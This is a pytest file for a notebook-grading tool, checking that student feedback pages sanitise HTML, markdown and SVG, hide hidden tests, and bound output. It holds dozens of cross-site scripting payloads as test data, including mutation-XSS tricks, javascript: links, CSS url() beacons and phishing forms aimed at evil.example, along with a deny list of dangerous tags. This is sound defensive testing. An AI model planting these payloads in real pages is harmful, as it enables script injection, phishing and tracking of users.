"""Feedback pages say why, show nothing hidden, and bear whatever students put into notebooks."""

import base64
import copy
import json
import re
import struct
import zlib

import pytest
from bleach._vendor import html5lib  # parses as browsers do
from bs4 import BeautifulSoup
from nbconvert.filters import markdown2html
from nbformat import from_dict

from conftest import STEMS, notebook_path
from safegrade.course.pages import feedback_unit
from safegrade.feedback import formulas, page, sanitise_outputs
from safegrade.feedback.hidden import Redactor, hide_tests, split
from safegrade.feedback.markup import markdown as markdown_html
from safegrade.feedback.notebooks import harmless_markdown, safe_data
from safegrade.feedback.outputs import Room
from safegrade.feedback.sanitising import html as sanitised
from toyclass import GOOD, TEST, code, markdown, notebook, settings

HIDDEN = "check(double(-1.5), -3)"

# --- what is dangerous, as a browser would see it ---

ACTIVE = [
    *("script", "iframe", "object", "embed", "meta", "base", "form", "input", "button", "link"),
    *("textarea", "select", "style", "svg", "math", "video", "audio", "frame", "noscript"),
]
LEADS = ["href", "src", "action", "formaction", "data", "srcdoc", "background", "poster"]
MARKS = ["target", "ping", "srcset", "id", "class", "name", "http-equiv"]
COVERS = re.compile(r"url\(|expression|@import|position|behavior|-moz-binding|z-index|fixed", re.I)


def dangers(text):
    """Return what could run, load, send or cover something in HTML."""
    found = []
    for tag, attributes in elements(text):
        if tag in ACTIVE and not (tag == "math" and "alttext" in attributes):  # a drawn formula
            found.append(tag)
        for name, value in attributes.items():
            loads = name in LEADS or name.endswith("xlink:href")
            covers = name == "style" and COVERS.search(re.sub(r"\\\w+", "url(", value))
            if name.startswith("on") or name in MARKS or covers:
                found.append(name)
            elif loads and not is_harmless(tag, name, value):
                found.append(f"{tag} {name}={value[:60]}")
    return found


def elements(text):
    """Give the tags and attributes that a lenient parser sees, and those that a browser sees."""
    for element in BeautifulSoup(text, "html.parser").find_all(True):
        lists = element.attrs.items()
        yield element.name, {k: " ".join(v) if isinstance(v, list) else v for k, v in lists}
    for element in html5lib.parseFragment(text, namespaceHTMLElements=False, scripting=True).iter():
        if isinstance(element.tag, str):
            tag = element.tag.rpartition("}")[2]
            yield tag, {str(key).rpartition("}")[2]: value for key, value in element.attrib.items()}


def is_harmless(tag, name, value):
    value = "".join(value.split()).lower()
    if tag == "img":
        return name == "src" and value.startswith("data:image/") and ";base64," in value
    return tag == "a" and value.startswith(("http://", "https://", "#"))


def in_boxes(text):
    """Return what the boxes of a page hold, as HTML."""
    boxes = BeautifulSoup(text, "html.parser").select(".yours, .comment")
    inside = "".join(box.decode_contents() for box in boxes)
    soup = BeautifulSoup(inside, "html.parser")
    for ours in soup.select(".yours, .comment, pre span, pre.hint, p.label"):
        for name in ("class", "id"):
            ours.attrs.pop(name, None)
    return str(soup)


def frame_of(text):
    """Return the page's own head and verdicts, without what the boxes hold."""
    soup = BeautifulSoup(text, "html.parser")
    for box in soup.select(".yours"):
        box.clear()
    return soup


VECTORS = {
    "script": "<script>top.pwned = 1</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/a.js></sCrIpT>",
    "script in script": "<scr<script>1</script>ipt>pwned()</scr<script>1</script>ipt><script>1",
    "broken script": "<script <b>>pwned()</script",
    "image that fails": "<img src=x onerror=pwned()>",
    "image with slash": "<img/src/onerror=pwned()>",
    "quotes in attributes": "<img title='a\"onerror=pwned() b' src=\"x\" onerror='pwned()'>",
    "event after newline": "<p\nonmouseover\n=\npwned()>over me</p>",
    "event on a custom tag": "<hello onfocus=pwned() tabindex=0 autofocus>",
    "details that open": "<details open ontoggle=pwned()>x</details>",
    "animation event": "<b style='animation:spin 1s' onanimationstart=pwned()>x</b>",
    "link that runs": "<a href='javascript:pwned()'>my plot</a>",
    "link in capitals": "<a href=' JaVaScRiPt:pwned()'>my plot</a>",
    "link with entities": "<a href='&#x6a;avascript&colon;pwned()'>my plot</a>",
    "link with tab": "<a href='java\tscript:pwned()'>my plot</a>",
    "link with control": "<a href='\x01javascript:pwned()'>my plot</a>",
    "link with page in it": "<a href='data:text/html,<script>pwned()</script>'>my plot</a>",
    "link with visual basic": "<a href='vbscript:pwned'>my plot</a>",
    "link that pings": "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "frame with page in it": "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "object": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "embedded": "<embed src='https://evil.example/x.swf'>",
    "drawing that runs": "<svg onload=pwned()><circle r=9></svg>",
    "drawing with animation": "<svg><a><animate attributeName=href values=javascript:pwned() />",
    "foreign object": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "formula with link": "<math><mtext xlink:href='javascript:pwned()'>x</mtext></math>",
    "namespace confusion": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "noscript confusion": "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "comment confusion": "<!--><img src=x onerror=pwned()>-->",
    "textarea confusion": "<textarea><img title='</textarea><img src=x onerror=pwned()>'>",
    "template": "<template><script>pwned()</script></template><script>1</script>",
    "form that phishes": "<form action='https://evil.example'><input name=password></form>",
    "button": "<button formaction='javascript:pwned()'>Show my grade</button>",
    "redirect": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "another base": "<base href='https://evil.example/'>",
    "style sheet": "<style>.badge { display: none } @import '//evil.example/a.css';</style>",
    "linked style sheet": "<link rel=stylesheet href='//evil.example/a.css'>",
    "cover": "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>10 / 10</div>",
    "style that loads": "<p style='background:url(https://evil.example/seen)'>x</p>",
    "style with escapes": "<p style='background:u\\72l(//evil.example);position:\\66ixed'>x</p>",
    "old style expression": "<p style='width:expression(pwned())'>x</p>",
    "image that counts readers": "<img src='https://evil.example/seen.gif'>",
    "image set": "<img srcset='https://evil.example/seen.gif 1x'>",
    "background": "<table background='https://evil.example/seen.gif'><tr><td>x</table>",
    "our badge": "<p class='badge' id='task-1'>full marks: 3 / 3</p>",
    "end of our box": "</div></div></section></main><script>pwned()</script>",
    "sound": "<audio src=x onerror=pwned()></audio><video poster=//evil.example></video>",
    "null": "<scr\0ipt>pwned()</scr\0ipt><img src=x one\0rror=1 onerror=pwned()>",
}
LINKS = {
    "link": "[my plot](javascript:pwned())",
    "link in angles": "[my plot](<javascript:pwned()>)",
    "link with entity": "[my plot](&#106;avascript:pwned())",
    "link with escape": "[my plot](javascript\\:pwned())",
    "link with percent": "[my plot](javascript%3Apwned())",
    "reference": "[my plot][1]\n\n[1]: javascript:pwned()",
    "page in a link": "[my plot](data:text/html;base64,PHNjcmlwdD4=)",
    "image that counts readers": "![x](https://evil.example/seen.gif)",
    "automatic link": "<javascript:pwned()>",
    "heading": "# <img src=x onerror=pwned()>",
    "table": "| a |\n|---|\n| <script>pwned()</script> |",
    "list in quote": "> - a\n>   <script>pwned()</script>",
    "formula": "$<img src=x onerror=pwned()>$ and $$</div><script>pwned()</script>$$",
    "code info": '``` "><script>pwned()</script>\nx\n```',
    "title": '[x](https://ok.example "\\"onmouseover=pwned() ")',
}


def stream(text, name="stdout"):
    return {"output_type": "stream", "name": name, "text": text}


def display(**data):
    data = {kind.replace("_", "/"): value for kind, value in data.items()}
    return {"output_type": "display_data", "data": data, "metadata": {}}


def failure(name, text, *traceback):
    return {"output_type": "error", "ename": name, "evalue": text, "traceback": [*traceback]}


def cell_with(*outputs, text="1", name="mine", metadata=None):
    return {**code(text, name, metadata), "outputs": [*outputs]}


def graded(*outputs, text=TEST, answer=GOOD):
    """Return a notebook with an answer and its test, which gave these outputs."""
    told = settings("test-double", grade=True, locked=True, points=3)
    solution = code(answer, "double", settings("double", solution=True))
    return notebook(solution, cell_with(*outputs, text=text, name="test", metadata=told))


def shown(nb, scores=None, **more):
    more = {"title": "Slopes", "student": "ada", "assignment": "slopes", **more}
    return page(nb, scores or {}, **more)


def text_of(html):
    return BeautifulSoup(html, "html.parser").get_text(" ")


def points(score, possible=3, by_hand=False):
    return {"test-double": {"score": score, "points": possible, "by_hand": by_hand}}


# --- nothing that a student shows can run, load, cover or pretend ---


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_html_of_a_student_is_harmless(vector):
    assert dangers(vector), "this vector proves nothing"
    assert not dangers(sanitised(vector)) and "<math" not in sanitised(vector)
    everywhere = notebook(
        markdown(vector, "m"),
        cell_with(display(text_html=vector), display(text_markdown=vector), text=vector),
        cell_with(display(text_plain=vector), display(text_latex=vector), stream(vector)),
        cell_with(failure(vector, vector, vector), {"output_type": vector}, display(**{vector: 1})),
    )
    html = shown(everywhere)
    assert not dangers(in_boxes(html))
    assert text_of(html).count("To the top") == 0


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_names_notes_comments_and_provenance_are_harmless(vector):
    scores = {vector: {"score": 1, "points": 2}, "double": {"score": 1, "points": 1}}
    told = {"title": vector, "student": vector, "assignment": vector, "notes": [vector]}
    told |= {"comments": {"double": vector}, "provenance": {vector: {vector: vector}}}
    html = shown(graded(failure(vector, vector)), scores, **told)
    assert not dangers(in_boxes(html))
    soup = frame_of(html)
    assert [tag.name for tag in soup.find_all(ACTIVE)] == ["meta"] * 4 + ["style"]
    assert not [a for tag in soup.find_all(True) for a in tag.attrs if a.startswith("on")]


@pytest.mark.parametrize("vector", LINKS.values(), ids=LINKS)
def test_markdown_of_a_student_is_harmless(vector):
    everywhere = notebook(markdown(vector, "m"), cell_with(display(text_markdown=vector)))
    assert not dangers(in_boxes(shown(everywhere)))
    sanitise_outputs(everywhere)
    assert not [d for d in dangers(markdown2html(everywhere["cells"][0]["source"])) if bad(d)]


def bad(danger):
    """Whether a danger in a page of nbconvert is the student's: nbconvert names headings."""
    return danger not in ("id", "class")


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_stock_renderers_get_harmless_notebooks(vector):
    nb = notebook(markdown(vector, "m"), cell_with(display(text_html=vector)))
    nb["cells"][1]["outputs"] += [display(text_markdown=vector), display(text_latex=vector)]
    sanitise_outputs(nb)
    for output in nb["cells"][1]["outputs"]:
        assert not dangers(output["data"].get("text/html", ""))
        assert set(output["data"]) <= {"text/html", "text/plain"}
    assert not [d for d in dangers(markdown2html(nb["cells"][0]["source"])) if bad(d)]


def test_the_page_forbids_itself_to_load_or_run_anything():
    soup = BeautifulSoup(shown(graded(), points(3)), "html.parser")
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert "script-src" not in policy and "unsafe-eval" not in policy
    assert not soup.find_all(["script", "link", "iframe"])


def test_tables_formatting_and_web_links_stay():
    table = "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1.5</td></tr></tbody></table>"
    right = '<td style="text-align: right; position: fixed">1</td>'
    html = sanitised(f"{table}<table><tr>{right}</tr></table><b>bold</b>")
    assert table in html and "<b>bold</b>" in html
    assert 'style="text-align: right;"' in html
    link = sanitised('<a href="https://uni.example@evil.example/x">uni.example</a>')
    assert link.endswith("uni.example</a> (evil.example)") and 'rel="noopener' in link


@pytest.mark.parametrize("more", ["", "<b>HTML</b> "])
def test_a_link_says_where_it_leads_unless_its_text_does(more):
    links = {
        "<https://ok.example/x>": "https://ok.example/x",
        "[ok.example](https://ok.example/x)": "ok.example",
        "[here](https://ok.example/x)": "here (ok.example)",
        "[ok.example](https://evil.example/x)": "ok.example (evil.example)",
        "[https://ok.example/](https://evil.example/x)": "https://ok.example/ (evil.example)",
    }
    for link, told in links.items():
        soup = BeautifulSoup(shown(notebook(markdown(more + link, "m"))), "html.parser")
        assert soup.select_one(".prose").text.strip().removeprefix("HTML ") == told


ELSEWHERE = {
    "entity in the host": '<a href="https://ok.example:&#64;evil.example/">x</a>',
    "named entity": '<a href="https://ok.example&commat;evil.example/">x</a>',
    "entity without end": '<a href="https://ok.example&ordm;x/">x</a>',
    "entity for a letter": '<a href="https://&#101;vil.example/">x</a>',
}
EVIL = '<a href="https://evil.example/">{}</a>'
TOLD = {
    "entities": EVIL.format("&#103;&#111;&#111;&#100;&#46;&#99;&#111;&#109;&#47;evil.example"),
    "other tags": EVIL.format("https://evil.<b>example/</b>"),
    "closed details": EVIL.format("<details><summary><i></i></summary>evil.example</details>"),
    "figure": EVIL.format('<img src="data:image/png;base64,PNG">https://evil.example/'),
    "nested": EVIL.format(
        '<table><tr><td><a href="https://ok.example/"></a></td></tr></table>https://ok.example/'
    ),
}
IN_MARKDOWN = {
    "words of a figure": "[![https://evil.example/](data:image/png;base64,PNG)]",
    "bold": "[https://evil.**example**/]",
}


@pytest.mark.parametrize("link", ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_link_with_entities_in_its_address_leads_nowhere(link):
    assert "href" not in sanitised(link) and "href" not in markdown_html(link)


def test_a_link_may_have_many_parameters():
    for link in (
        '<a href="https://ok.example/?a=1&amp;b=2">x</a>',
        "[x](https://ok.example/?a=1&b=2)",
    ):
        soup = BeautifulSoup(markdown_html(link), "html.parser")
        assert soup.a["href"] == "https://ok.example/?a=1&b=2" and "(ok.example)" in soup.text


@pytest.mark.parametrize("link", TOLD.values(), ids=TOLD)
def test_a_link_whose_text_is_more_than_letters_says_where_it_leads(link):
    assert "(evil.example)" in sanitised(link.replace("PNG", png()))


@pytest.mark.parametrize("link", IN_MARKDOWN.values(), ids=IN_MARKDOWN)
def test_a_link_of_markdown_with_more_than_letters_says_where_it_leads(link):
    html = markdown_html(link.replace("PNG", png()) + "(https://evil.example/)")
    assert html.endswith("</a> (evil.example)</p>\n")


def test_what_is_not_shown_is_named():
    data = {"application/javascript": "pwned()", "text/plain": "<Chart>"}
    data["application/vnd.jupyter.widget-view+json"] = {"model_id": "1"}
    assert safe_data(data, [9]) == {"text/plain": "<Chart>\n(JavaScript, widget: not shown)"}


def test_a_student_cannot_write_a_verdict():
    fake = '<section class="verdict full"><h3>1. double <span class="badge">3 / 3</span></h3>'
    nb = graded(stream("full marks: 3 / 3\n"), failure("NotRun", "full marks: 3 / 3"))
    nb["cells"].insert(0, cell_with(display(text_html=fake)))
    nb["cells"].insert(0, markdown(fake, "fake"))
    soup = BeautifulSoup(shown(nb, points(0)), "html.parser")
    assert [tag.get_text() for tag in soup.select("section .badge")] == ["✗ no points: 0 / 3"]
    assert not soup.select(".yours .verdict, .yours .badge, .yours [id]")
    for tag in soup.find_all(string=re.compile("full marks: 3 / 3")):
        assert tag.find_parent(class_=["yours", "hint"])


# --- images ---


def png(width=2, height=2):
    def chunk(kind, content):
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * min(height * (width + 1), 1000))
    raw = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    return base64.b64encode(raw).decode()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{}</svg>'
USE = '<g id="{}"><use href="#{}"/><use href="#{}"/></g>'
DRAWINGS = {
    "plain": (SVG.format('<path d="M0 0h9" clip-path="url(#p)"/>'), True),
    "repeats": (SVG.format('<defs><path id="m" d="M0 0"/></defs><use href="#m" x="3"/>'), True),
    "script": (SVG.format("<script>1</script>"), False),
    "event": (SVG.format('<path onclick="f()"/>'), False),
    "foreign": (SVG.format("<foreignObject/>"), False),
    "loads": (SVG.format('<image href="https://evil.example/x.png"/>'), False),
    "style loads": (SVG.format("<style>@import 'https://evil.example'</style>"), False),
    "entities": ('<!DOCTYPE svg [<!ENTITY a "ha">]>' + SVG.format("<text>&a;</text>"), False),
    "repeats repeats": (SVG.format(USE.format("a", "b", "b") + USE.format("b", "c", "c")), False),
    "broken": ("<svg", False),
}


@pytest.mark.parametrize("drawing, kept", DRAWINGS.values(), ids=DRAWINGS)
def test_drawings_are_shown_as_images_or_not_at_all(drawing, kept):
    soup = BeautifulSoup(
        shown(notebook(cell_with(display(**{"image_svg+xml": drawing})))), "html.parser"
    )
    images = soup.find_all("img")
    assert len(images) == kept
    assert not soup.find("svg")
    if kept:
        coded = images[0]["src"].removeprefix("data:image/svg+xml;base64,")
        assert base64.b64decode(coded).decode() == drawing
    else:
        assert "SVG drawing: not shown" in soup.get_text()


def test_images_have_to_be_images():
    page_in_png = base64.b64encode(b"<script>pwned() " + struct.pack(">II", 9, 9)).decode()
    for kind, content, kept in [
        ("image_png", png(), True),
        ("image_png", page_in_png, False),
        ("image_png", png(60_000, 60_000), False),
        ("image_png", 'x" onerror="pwned()', False),
        ("image_jpeg", png(), False),
        ("image_png", base64.b64encode(base64.b64decode(png()) + bytes(500_000)).decode(), False),
        ("image_webp", png(), False),
    ]:
        html = shown(notebook(cell_with(display(**{kind: content}))))
        assert ("<img" in html) is kept, (kind, content[:30])
        assert "pwned" not in html


def test_the_number_of_images_is_bounded():
    html = shown(
        notebook(
            cell_with(*[display(image_png=png())] * 25),
            *[cell_with(*[display(image_png=png())] * 25)] * 3,
        )
    )
    assert 30 <= html.count("<img") <= 40


def test_attached_images_are_shown_and_other_attachments_are_not():
    cell = {**markdown("![a](attachment:a.png) ![b](attachment:b)", "m")}
    cell["attachments"] = {"a.png": {"image/png": png()}, "b": {'image/png" onerror="1': png()}}
    assert shown(notebook(copy.deepcopy(cell))).count("<img") == 1
    nb = notebook(cell)
    sanitise_outputs(nb)
    assert nb["cells"][0]["attachments"] == {"a.png": {"image/png": png()}}


# --- text ---


def test_escape_sequences_and_overwritten_lines_are_gone():
    told = (
        "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\n 10%\r 50%\r100%\n\x07"
    )
    html = shown(notebook(cell_with(stream(told))))
    assert "<pre>redlink\n100%\n\ufffd</pre>" in html
    assert "\x1b" not in html and "\r" not in html


def test_hidden_directions_are_spelled_out():
    for text in ("\u202egnp.exe", "\u2066x", "\u200fy"):
        named = f"⟨U+{ord(text[0]):04X}⟩{text[1:]}"
        html = shown(
            notebook(
                markdown(text, "m"), cell_with(stream(text), failure("E", text), text=f"#{text}")
            ),
            student=text,
        )
        assert text[0] not in html and text_of(html).count(named) >= 4
    zero_width = shown(notebook(), student="a\u200bd\u200da\ufeff" + "\u0301" * 50)
    assert not re.search("[\u200b-\u200f\ufeff]", zero_width) and zero_width.count("\u0301") < 9


def test_broken_letters_do_not_break_the_page():
    html = shown(notebook(cell_with(stream("\ud800x\0"), text="'\udfff'")), student="\ud83d")
    assert html.encode("utf-8") and "\0" not in html


def test_repeated_lines_are_said_once():
    told = "RuntimeWarning: overflow\n  w = w * w\n" * 400 + "done\n" + "again\n" * 3
    text = text_of(shown(notebook(cell_with(stream(told, "stderr")))))
    assert text.count("overflow") == 1 and "the last 2 lines came 400 times" in text
    assert text.count("again\n") == 1 and "done" in text


@pytest.mark.parametrize(
    "flood",
    [
        stream("x" * 5_000_000),
        stream("".join(f"{i}\n" for i in range(200_000))),
        display(text_html="<table>" + "<tr><td>1</td></tr>" * 100_000),
        display(text_html="<b>" * 5000),
        display(text_html="<div>" * 3000 + "x"),
        display(text_html="<a" * 20_000),
        display(text_markdown="[" * 20_000),
        display(text_markdown="> " * 5000 + "x"),
        display(text_markdown="*a **b " * 3000),
        display(text_plain=str([*range(1_000_000)])),
        display(text_latex="\\a" * 500_000),
        display(image_png=png()[:-4] + "A" * 5_000_000),
        failure("E" * 100_000, "m" * 3_000_000, *["line"] * 10_000),
    ],
    ids=lambda output: output["output_type"] + str([*output.get("data", "")]),
)
def test_one_flood_is_bounded(flood):
    html = shown(notebook(cell_with(flood, text="1")))
    assert len(html) < 250_000
    assert not dangers(in_boxes(html))


def test_what_is_nested_too_deep_is_shown_as_text():
    assert sanitised("<div>" * 3000 + "x").startswith("<pre>&lt;div&gt;")
    assert sanitised("<div>" * 30 + "x").startswith("<div><div>")


def test_what_does_not_fit_is_named_and_leaves_room():
    room = Room(Redactor([]))
    room.left = 10
    assert "page is full" in room.put("x" * 11) and room.put("x" * 10) == "x" * 10
    assert room.left == 0 and "page is full" in room.put("x")


def test_a_whole_page_is_bounded_and_still_gives_every_verdict():
    big = [stream("".join(f"{i} " for i in range(5000))), display(text_html="<b>x</b>" * 3000)]
    cells, scores = [], {}
    for i in range(200):
        told = settings(f"t{i}", grade=True, locked=True, points=1)
        scores[f"t{i}"] = {"score": 0, "points": 1}
        cells += [cell_with(*copy.deepcopy(big), text="y = 1\n" * 2000 + f"#{i}")]
        cells += [
            cell_with(*copy.deepcopy(big), failure("WrongAnswer", f"{i} " * 3000), metadata=told)
        ]
    html = shown(notebook(*cells), scores)
    assert len(html.encode()) < 1_600_000
    assert "not shown: the page is full" in html
    assert html.count('<section class="verdict none"') == 200
    assert "0 <small>of 200 points" in html


# --- hidden tests ---


def test_hidden_tests_are_nowhere_on_the_page():
    quoting = [
        stream(f"In = {TEST!r}\n"),
        failure(
            "AssertionError",
            f"this failed: {HIDDEN}",
            "Cell In[3], line 4\n      3 ### BEGIN HIDDEN TESTS\n"
            "----> 4 \x1b[32mcheck\x1b[39m(double(-1.5), -3)\n      5 ### END HIDDEN TESTS",
        ),
    ]
    mine = cell_with(
        stream(json.dumps(TEST)),
        display(text_plain=TEST, text_html=f"<b>{HIDDEN.replace('double', '<i>double</i>')}</b>"),
        display(text_markdown=f"- a\n  > `{HIDDEN}`"),
        display(text_latex=HIDDEN),
        failure("WrongAnswer", "told:\n  " + HIDDEN.replace(" ", "   "), f"--> 2 {HIDDEN}"),
    )
    nb = graded(*quoting)
    nb["cells"] += [mine, markdown(f"> - look\n>   `{HIDDEN}`", "look")]
    assert HIDDEN in text_of(shown(nb, points(0), show_hidden_tests=True))
    html = shown(nb, points(0), comments={"double": f"See {HIDDEN}"})
    for text in (html, text_of(html)):
        assert "-1.5" not in re.sub(r"See check.*", "", text)
    assert "1 line of hidden tests not shown" in text_of(html)
    assert "check(double(3), 6)" in text_of(html), "the other tests are shown"
    hide_tests(nb)
    assert "-1.5" not in json.dumps(nb) and "check(double(3), 6)" in json.dumps(nb)


def test_an_unclosed_region_is_hidden_to_the_end():
    assert split("a = 1\n  # BEGIN HIDDEN TESTS\nb = 2\nc = 3") == ("a = 1", ["b = 2", "c = 3"])
    assert split("Say.\n=== BEGIN MARK SCHEME ===\n2 points\n=== END MARK SCHEME ===\nEnd.") == (
        "Say.\nEnd.",
        ["2 points"],
    )


def test_what_is_said_openly_is_not_hidden():
    redact = Redactor(["assert f(1) == 1", "else:"], shown=["  assert f(1) == 1"])
    assert redact("assert f(1) == 1 else:") == "assert f(1) == 1 else:"


def test_students_cannot_hide_their_own_code_from_the_page():
    nb = notebook(cell_with(text="### BEGIN HIDDEN TESTS\nimport os\n### END HIDDEN TESTS"))
    assert "import os" in BeautifulSoup(shown(nb), "html.parser").get_text()


# --- what a page says ---


def verdict(html, number=1):
    return BeautifulSoup(html, "html.parser").find(id=f"task-{number}")


@pytest.mark.parametrize(
    "score, by_hand, badge",
    [
        (3, False, "✓ full marks: 3 / 3"),
        (2.9999999999999996, False, "✓ full marks: 3 / 3"),
        (1.5, False, "◐ in part: 1.5 / 3"),
        (0, False, "✗ no points: 0 / 3"),
        (None, False, "… waiting: – / 3"),
        (1, True, "… waiting: 1 / 3"),
        (float("nan"), False, "… waiting: – / 3"),
    ],
)
def test_points_and_state(score, by_hand, badge):
    assert (
        verdict(shown(graded(), points(score, by_hand=by_hand))).find(class_="badge").text == badge
    )


def test_the_sum_and_a_link_to_each_task_are_on_top():
    scores = {
        "test-double": {"score": 1.5, "points": 3},
        "gone": {"score": 2, "points": 2},
        "explain": {"score": None, "points": 2, "by_hand": True},
    }
    told = settings("explain", grade=True, solution=True, points=2)
    nb = graded()
    nb["cells"].append(markdown("Twice.", "explain", told))
    html = shown(nb, scores, late_penalty=0.5)
    soup = BeautifulSoup(html, "html.parser")
    total = soup.find(class_="total").get_text()
    assert total.startswith("3 of 5 points so far, 0.5 taken off because it came late; 2 more wait")
    rows = [[*row.stripped_strings] for row in soup.select(".tasks tr")[1:]]
    assert rows == [
        ["double: whole numbers and fractions", "1.5 / 3", "◐ in part"],
        ["Answer by hand: explain", "– / 2", "… waiting"],
        ["gone", "2 / 2", "✓ full marks"],
    ]
    for link in soup.select(".tasks a"):
        assert soup.find(id=link["href"][1:])


@pytest.mark.parametrize(
    "told, late, total, share",
    [
        ([(1, 3), (2, 2)], 0, "3 of 5 points", 0.6),
        ([(1, 3), (2, 2)], 4, "0 of 5 points, 4 taken off because it came late", 0),
        ([(3, 7), (None, 3)], 0, "3 of 7 points so far; 3 more wait for a person", 3 / 7),
        ([(3, 7), (None, 1)], 0, "3 of 7 points so far; 1 more waits for a person", 3 / 7),
        ([(3, 7), (None, 2), (None, 1.5)], 0, "3 of 7 points so far; 3.5 more wait for a", 3 / 7),
        ([(3, 4), (None, 0)], 0, "3 of 4 points so far; 1 task waits for a person", 0.75),
        ([(3, 4), (None, 0), (0, 0)], 0, "3 of 4 points so far; 1 task waits", 0.75),
        ([(None, 0), (None, 0)], 0, "0 points so far; 2 tasks wait for a person", 0),
        ([(None, 3)], 0, "0 points so far; 3 wait for a person", 0),
        ([(4, 3)], 0, "4 of 3 points", 1),
        ([], 0, "0 of 0 points", 0),
    ],
)
def test_what_waits_for_a_person_is_not_lost(told, late, total, share):
    scores = {f"t{n}": {"score": got, "points": most} for n, (got, most) in enumerate(told)}
    soup = BeautifulSoup(shown(notebook(), scores, late_penalty=late), "html.parser")
    assert soup.find(class_="total").get_text().startswith(total)
    assert float(soup.progress["value"]) == pytest.approx(share, abs=1e-4)


def test_a_score_that_a_person_has_still_to_confirm_is_not_counted():
    scores = {**points(1, by_hand=True), "t": {"score": 2, "points": 2}}
    total = BeautifulSoup(shown(graded(), scores), "html.parser").find(class_="total").get_text()
    assert total == "2 of 2 points so far; 3 more wait for a person"


@pytest.mark.parametrize(
    "error, told",
    [
        (failure("WrongAnswer", "double(2) gave 2\nexpected 4"), ["double(2) gave 2\nexpected 4"]),
        (failure("AssertionError", "only whole numbers"), ["only whole numbers"]),
        (
            failure("AssertionError", "", "  test, line 2\n    check(double(3), 6)"),
            ["This does not hold:", "check(double(3), 6)"],
        ),
        (failure("AssertionError", "", f"  test, line 4\n    {HIDDEN}"), ["A check failed."]),
        (failure("NotImplementedError", ""), ["There is no answer yet."]),
        (failure("TypeError", "no str"), ["stopped with an error", "TypeError: no str"]),
        (failure("NotRun", "Not run: time is up."), ["did not come to its end", "time is up"]),
        (failure("CellTimeoutError", ""), ["ran longer than it may", "a loop that never ends?"]),
        (failure("CellTimeoutError", "It hung."), ["a loop that never ends?", "It hung."]),
    ],
)
def test_the_hint_is_what_the_test_said(error, told):
    text = verdict(shown(graded(error), points(0))).get_text()
    for words in told:
        assert words in text
    assert "-1.5" not in text


@pytest.mark.parametrize(
    "traceback",
    [
        "Cell In[2], line 2, in double(x)\n      1 def double(x):\n----> 2     return 2 * x",
        '  File "cell", line 2, in double\n    return 2 * x\n           ~~^~~',
        "  test-double, line 2\n    check(double(3), 6)\n  f, line 2, in double\n    return 2 * x",
    ],
)
def test_the_students_own_lines_are_quoted_and_no_others(traceback):
    inside = '  File "/lib/numpy/core.py", line 9, in secret\n    secret_line(1)'
    error = failure("ZeroDivisionError", "division by zero", *traceback.split("\n"), inside)
    text = verdict(shown(graded(error), points(0))).get_text()
    assert "line 2 of double: return 2 * x" in text
    assert "secret" not in text and "/lib/" not in text


@pytest.mark.parametrize(
    "kind, message, line",
    [
        ("SyntaxError", "'(' was never closed", "    return (x"),
        ("SyntaxError", "invalid syntax", "def double(x:"),
        ("IndentationError", "expected an indented block (<cell 2>, line 2)", "return x"),
        ("TabError", "inconsistent use of tabs (<cell 2>, line 2)", "    return x"),
    ],
)
def test_an_error_of_syntax_has_its_line(kind, message, line):
    told = failure(kind, message, "  double, line 2", f"    {line}", "    ^", f"{kind}: {message}")
    text = text_of(shown(notebook(cell_with(told, text=f"# an answer\n{line}"))))
    assert f"{kind}: {message.partition(' (<')[0]} " in text.replace("\n", " ")
    assert f"line 2: {line.strip()}" in text and "<cell" not in text


def test_what_stands_beside_a_label_can_go_below_it():
    told = "double: not right yet.\n  Case      x = 3\n            <b>\n  Hint      Twice.\n  2  3"
    pre = verdict(shown(graded(failure("WrongAnswer", told)), points(0))).find("pre")
    assert [[*row.stripped_strings] for row in pre.select(".row")] == [
        ["Case", "x = 3\n<b>"],
        ["Hint", "Twice."],
    ]
    lines = [line.strip() for line in told.split("\n")]
    assert [line.strip() for line in pre.get_text().split("\n")] == lines
    many = "\n".join(["  Case  x"] * 500)
    assert shown(graded(failure("WrongAnswer", many)), points(0)).count('class="row"') <= 20


def test_a_reason_is_given_once():
    tests = []
    for i in range(3):
        told = settings(f"t{i}", grade=True, locked=True, points=1)
        tests.append(cell_with(failure("WrongAnswer", "the same long hint " * 20), metadata=told))
    scores = {f"t{i}": {"score": 0, "points": 1} for i in range(3)}
    html = shown(notebook(*tests), scores)
    assert html.count("the same long hint " * 20) == 1
    assert "As in task 1." in verdict(html, 3).get_text().replace("\n", " ")


def test_full_marks_need_no_reason_and_partial_credit_keeps_it():
    nb = graded(failure("WrongAnswer", "fractions are cut"))
    assert "fractions are cut" in verdict(shown(nb, points(1))).get_text()
    assert "fractions are cut" not in verdict(shown(nb, points(3))).get_text()


def test_the_score_itself_is_no_output():
    result = {"output_type": "execute_result", "data": {"text/plain": "1.53"}, "metadata": {}}
    assert "1.53" not in shown(graded(result), points(1.5))


def test_comments_notes_and_provenance():
    provenance = {"limits": {"cell_seconds": 30.0, "memory": 2**31}, "enforced": {"landlock": True}}
    html = shown(
        graded(),
        points(3),
        comments={"test-double": "Well put, **but** $x^2$.", "double": "Neat."},
